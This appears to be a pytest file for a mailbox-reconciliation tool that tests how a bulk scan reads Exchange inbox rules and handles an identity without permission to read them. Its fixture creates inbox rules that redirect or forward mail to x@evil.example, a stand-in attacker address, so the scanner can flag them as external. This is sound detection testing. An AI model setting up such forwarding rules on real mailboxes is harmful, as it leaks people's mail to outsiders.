"""The bulk scan's read of inbox rules (drift): batched with Full Access, classified, and an identity that may not
run Get-InboxRule (no View-Only role holds it) leaves the rules unchecked, never the mailboxes unread."""

from __future__ import annotations

import asyncio
import dataclasses

from localtenant.exchange import rbac
from mailroom.core.model import DEFAULTS, Desired, Mailbox, Policy
from mailroom.core.spec import MailboxSpec
from mailroom.m365.tenant import Tenant
from mailroom.reconcile import bulk
from mailroom.reconcile.converge import create_mailbox

from ..conftest import TenantApp

DOMAINS = ("contoso.com",)
BOXES = ("desk@contoso.com", "hr@contoso.com")
DESIRED = Desired(DOMAINS, DEFAULTS, Policy(), tuple(Mailbox(a, a) for a in BOXES), ())


async def _arrange(tenant_app: TenantApp) -> None:
    async with tenant_app.tenant() as admin:
        for address in BOXES:
            await create_mailbox(admin.exchange, MailboxSpec(address=address, display_name=address))
    await tenant_app.by_hand("trent@contoso.com", "New-InboxRule", Mailbox="desk@contoso.com", Name="out",
                             RedirectTo=["x@evil.example"], ForwardTo=["bob@contoso.com"])
    await tenant_app.by_hand("trent@contoso.com", "New-InboxRule", Mailbox="hr@contoso.com", Name="off",
                             Enabled=False, ForwardTo=["x@evil.example"])


def test_rules_are_read_in_the_scan_batches_and_classified(tenant_app: TenantApp) -> None:
    async def run() -> bulk.ScanResult:
        await _arrange(tenant_app)
        async with tenant_app.tenant() as t:
            tenant_app.reset_metrics()
            return await bulk.scan(t, DESIRED, rules=True)

    result = asyncio.run(run())
    sent = tenant_app.metrics()
    assert sent["cmdlets"]["Get-InboxRule"] == len(BOXES)  # one $batch item per managed mailbox
    assert not result.errors and not result.rules_unread
    [rule] = result.live["desk@contoso.com"].spec.forward_rules
    assert rule.split(": ", 1)[1] == '"out" forwards to bob@contoso.com (internal), redirects to x@evil.example ' \
        "(external)"
    assert result.live["hr@contoso.com"].spec.forward_rules == ()  # disabled: sends nothing


def test_an_identity_without_get_inboxrule_leaves_the_rules_unchecked_not_the_mailboxes(
        tenant_app: TenantApp) -> None:
    # get-inboxrule's page says it does not work for View-Only Organization Management: the local tenant's
    # view-only roles do not hold it.
    assert "get-inboxrule" not in rbac.ROLES["View-Only Recipients"]

    async def run() -> bulk.ScanResult:
        await _arrange(tenant_app)
        async with tenant_app.tenant() as admin:  # a read-only app, as Exchange RBAC registers one
            await admin.exchange.invoke("New-ServicePrincipal", {"AppId": "reader", "ObjectId": "reader-sp"})
            for role in ("View-Only Recipients", "View-Only Configuration"):
                await admin.exchange.invoke("New-ManagementRoleAssignment", {"Role": role, "App": "reader"})
        async with Tenant(dataclasses.replace(tenant_app.config, client_id="reader"),
                          http_transport=tenant_app.http_transport) as t:
            return await bulk.scan(t, DESIRED, rules=True)

    result = asyncio.run(run())
    assert not result.errors and set(result.live) == set(BOXES)
    assert result.rules_unread.startswith("Get-InboxRule is not permitted for this identity")
    assert result.live["desk@contoso.com"].spec.forward_rules == ()
